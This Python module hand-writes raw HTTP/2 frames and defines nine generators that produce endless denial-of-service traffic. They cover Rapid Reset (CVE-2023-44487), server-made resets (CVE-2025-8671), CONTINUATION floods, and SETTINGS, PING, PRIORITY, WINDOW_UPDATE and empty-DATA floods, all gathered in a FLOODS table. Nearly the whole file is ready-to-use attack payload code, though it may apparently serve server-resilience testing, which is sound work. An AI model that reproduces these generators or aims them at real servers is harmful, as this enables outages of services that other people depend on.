"""HTTP/2 frames written by hand (RFC 9113 §4.1), well and badly meant: what no client library would send.

Owns the bytes only. Header blocks use the static table and literals without indexing (RFC 7541 §6.2.2), so that one block fits
every connection.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


def get(authority: bytes, path: bytes = b"/", scheme: bytes = b"http") -> bytes:
    """The block of a GET."""
    # :method GET is entry 2, :scheme http 6, https 7; the names of :path and :authority are entries 4 and 1.
    return (
        b"\x82" + (b"\x87" if scheme == b"https" else b"\x86")
        + b"\x04" + bytes((len(path),)) + path + b"\x01" + bytes((len(authority),)) + authority
    )


def opening() -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0)


# Floods: each gives pieces of some 64 KiB for one connection, for ever or until the stream ids are used up.


def rapid_reset(block: bytes) -> Iterator[bytes]:
    """CVE-2023-44487: requests that are taken back at once."""
    stream = 1
    while stream < 2**31 - 2000:
        piece = b""
        for _ in range(500):
            piece += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
            piece += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            stream += 2
        yield piece


def made_you_reset(block: bytes) -> Iterator[bytes]:
    """CVE-2025-8671: requests that the server must reset: a window update of nothing (RFC 9113 §6.9)."""
    stream = 1
    while stream < 2**31 - 2000:
        piece = b""
        for _ in range(500):
            piece += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
            piece += frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
            stream += 2
        yield piece


def continuation(block: bytes) -> Iterator[bytes]:
    """A field section without an end."""
    yield frame(HEADERS, 0, 1, block)
    piece = b"".join(frame(CONTINUATION, 0, 1, literal(b"x-%d" % n, b"y" * 100)) for n in range(500))
    while True:
        yield piece


def empty_continuation(block: bytes) -> Iterator[bytes]:
    """The same, of frames that hold nothing."""
    yield frame(HEADERS, 0, 1, block)
    while True:
        yield frame(CONTINUATION, 0, 1) * 7000


def settings(block: bytes) -> Iterator[bytes]:
    """Each wants an acknowledgement."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 4000


def ping(block: bytes) -> Iterator[bytes]:
    """Each wants an answer."""
    while True:
        yield frame(PING, 0, 0, b"bandsaws") * 3800


def priority(block: bytes) -> Iterator[bytes]:
    """Of streams that are not there."""
    while True:
        yield b"".join(frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 1)) for stream in range(1, 8001, 2))


def window_update(block: bytes) -> Iterator[bytes]:
    """By one byte each, until the window would overflow."""
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 5000


def empty_data(block: bytes) -> Iterator[bytes]:
    """A body of nothing that does not end."""
    post = b"\x83" + block[1:]
    yield frame(HEADERS, END_HEADERS, 1, post)
    while True:
        yield frame(DATA, 0, 1) * 7000


FLOODS = {
    "rapid reset": rapid_reset, "server-made resets": made_you_reset, "CONTINUATION": continuation,
    "empty CONTINUATION": empty_continuation, "SETTINGS": settings, "PING": ping, "PRIORITY": priority,
    "WINDOW_UPDATE": window_update, "empty DATA": empty_data,
}
